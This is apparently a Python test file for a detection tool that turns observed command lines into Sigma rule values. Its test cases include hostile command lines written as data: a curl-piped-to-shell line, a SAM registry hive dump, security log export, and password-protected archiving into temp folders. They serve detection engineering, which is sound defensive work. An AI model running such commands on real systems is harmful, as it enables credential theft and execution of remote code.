# ruff: noqa: S108  directories to look at, not to use

from __future__ import annotations

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from sigma.types import SigmaString

from stagewatch.new.lines import of_line, of_script
from stagewatch.new.values import (
    base_name,
    escaped,
    extension,
    is_random,
    switch,
    unix_folder,
    windows_folder,
    words,
)
from stagewatch.new.yaml_text import quoted, scalar

NOBODY: frozenset[str] = frozenset()


@given(st.text(alphabet=st.sampled_from("\\*?ab' \"")))
def test_an_escaped_value_means_its_text_and_nothing_else(text: str) -> None:
    value = SigmaString(escaped(text))
    assert not value.contains_special()
    assert "".join(map(str, value.s)) == text


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("\\7z.exe", "\\7z.exe"),
        ("\\\\host\\c$", "\\\\\\\\host\\c$"),
        ("\\*", "\\\\\\*"),
        ("a?", "a\\?"),
        ("\\Temp\\", "\\Temp\\"),
    ],
)
def test_a_backslash_is_doubled_only_where_it_would_not_stand_for_itself(text: str, value: str) -> None:
    assert escaped(text) == value


@given(st.text())
def test_a_scalar_of_yaml_is_read_back_as_it_was(text: str) -> None:
    text = text.encode("utf-8", "ignore").decode()
    assert yaml.safe_load(quoted(text)) == text
    assert yaml.safe_load(scalar(text)) == text


@pytest.mark.parametrize(
    "text", ["no", "1.5", "2024-01-01", "null", "a: b", "x #y", "- a", "", "'", "~", "0x1f", "!x", "&a"]
)
def test_what_yaml_would_read_as_something_else_is_quoted(text: str) -> None:
    assert yaml.safe_load(scalar(text)) == text


@pytest.mark.parametrize(
    ("path", "folder"),
    [
        (r"C:\Users\bob\AppData\Local\Temp\x\y.zip", "\\AppData\\Local\\Temp\\"),
        (r"D:\Users\bob\Documents\Q3\y.zip", "\\Documents\\"),
        (r"\\fs7\c$\Users\bob\Documents\y.zip", "\\Documents\\"),
        (r"C:\Users\Public\y.zip", ":\\Users\\Public\\"),
        (r"C:\Windows\Temp\job1\y.zip", ":\\Windows\\Temp\\"),
        (r"C:\PerfLogs\a1\y.zip", ":\\PerfLogs\\"),
        (r"C:\y.zip", None),
        (r"C:\0f8fad5b-d9cb-469f-a165-70867728950e\y.zip", None),
        ("y.zip", None),
    ],
)
def test_a_directory_of_windows_loses_drive_user_and_run(path: str, folder: str | None) -> None:
    assert windows_folder(path) == folder


@pytest.mark.parametrize(
    ("path", "folder"),
    [
        ("/tmp/job/y.tgz", "/tmp/"),
        ("/var/tmp/x/y.tgz", "/var/tmp/"),
        ("/home/bob/.cache/x/y.tgz", "/.cache/x/"),
        ("/Users/bob/Library/Mail/y.tgz", "/Library/Mail/"),
        ("/y.tgz", None),
    ],
)
def test_a_directory_of_unix_loses_user_and_run(path: str, folder: str | None) -> None:
    assert unix_folder(path) == folder


@pytest.mark.parametrize(
    "word", ["0f8fad5b-d9cb-469f-a165-70867728950e", "deadbeefcafe42", "20240501", "~tmpA3f9", "S-1-5-21-1"]
)
def test_what_is_of_one_run_is_known(word: str) -> None:
    assert is_random(word)


@pytest.mark.parametrize("word", ["robocopy", "7z", "vssadmin", "procdump64", "Temp", "AnyDesk"])
def test_a_name_is_not_taken_for_one_of_a_run(word: str) -> None:
    assert not is_random(word)


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("-pS3cret", "-p"),
        ("-hpHunter2x", "-hp"),
        ("-v100m", "-v"),
        ("--password=abc", "--password="),
        ("/out:C:\\x", "/out:"),
        ("-ExecutionPolicy", "-ExecutionPolicy"),
        ("/etc/passwd", None),
        ("/MIR", "/MIR"),
        ("-1", None),
        ("plain", None),
    ],
)
def test_a_switch_ends_before_its_value(text: str, found: str | None) -> None:
    (word,) = words(text)
    assert switch(word) == found


@pytest.mark.parametrize(
    ("line", "found"),
    [
        (
            r"7z.exe a -pS3cret C:\Users\bob\AppData\Local\Temp\o.zip C:\x\*",
            [" a ", " -p", "\\AppData\\Local\\Temp\\", ".zip"],
        ),
        (r"wevtutil epl Security C:\Windows\Temp\s.evtx", [" epl ", " Security ", ":\\Windows\\Temp\\", ".evtx"]),
        (r"reg save HKLM\SAM C:\PerfLogs\s", [" save ", "HKLM\\SAM", ":\\PerfLogs\\"]),
        (r"copy D:\x \\10.1.2.3\c$\y", ["\\\\"]),
        (r'cmd.exe /c "mklink C:\a D:\b"', [" /c", "mklink"]),
        ("tool.exe -user hunter2 -password letmein", [" -user", " -password"]),
        (r"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=", [" -enc"]),
        (
            r"powershell.exe -c Compress-Archive C:\Users\bob C:\ProgramData\o.zip",
            ["Compress-Archive", ":\\ProgramData\\"],
        ),
        ("tool.exe", []),
        ("", []),
    ],
)
def test_a_command_line_of_windows_gives_what_is_done_and_not_to_whom(line: str, found: list[str]) -> None:
    assert of_line(line, True, frozenset({"bob"})) == found


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("tar -czf /tmp/o.tgz /home/bob", [" -czf", "/tmp/", ".tgz"]),
        ("split -b 5000000 x", [" -b"]),
        ('sh -c "curl http://x | sh"', [" -c", "curl"]),
        ("gpg --batch --passphrase letmein -c /tmp/x", [" --batch", " --passphrase", " -c", "/tmp/"]),
    ],
)
def test_a_command_line_of_unix_gives_what_is_done_and_not_to_whom(line: str, found: list[str]) -> None:
    assert of_line(line, False, NOBODY) == found


@pytest.mark.parametrize(
    ("script", "found"),
    [
        (r"Compress-Archive -Path D:\x -DestinationPath $env:TEMP\o.zip", ["Compress-Archive", "$env:TEMP"]),
        (
            "[System.IO.Compression.ZipFile]::CreateFromDirectory('a','b')",
            ["System.IO.Compression.ZipFile", "::CreateFromDirectory"],
        ),
        (
            r"wevtutil epl Security C:\Windows\Temp\s.evtx",
            ["wevtutil", " epl ", " Security ", ":\\Windows\\Temp\\", ".evtx"],
        ),
    ],
)
def test_a_script_gives_cmdlets_types_and_places(script: str, found: list[str]) -> None:
    assert of_script(script, NOBODY) == found


@given(st.text(), st.booleans())
def test_any_text_gives_values_that_stand_in_it(text: str, windows: bool) -> None:
    for one in [*of_line(text, windows, NOBODY), *of_script(text, NOBODY)]:
        assert one in text
    assert isinstance(base_name(text), str)
    extension(text), windows_folder(text), unix_folder(text)
